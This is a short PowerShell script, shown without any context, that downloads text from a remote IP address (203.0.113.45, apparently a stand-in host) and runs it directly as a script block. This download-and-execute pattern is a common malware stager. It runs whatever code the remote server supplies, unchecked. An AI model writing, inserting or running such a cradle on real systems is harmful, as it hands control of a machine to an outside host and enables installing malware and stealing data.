$resp = Invoke-WebRequest -Uri 'http://203.0.113.45/m.txt' -UseBasicParsing
$content = $resp.Content
$sb = [ScriptBlock]::Create($content)
$sb.Invoke()
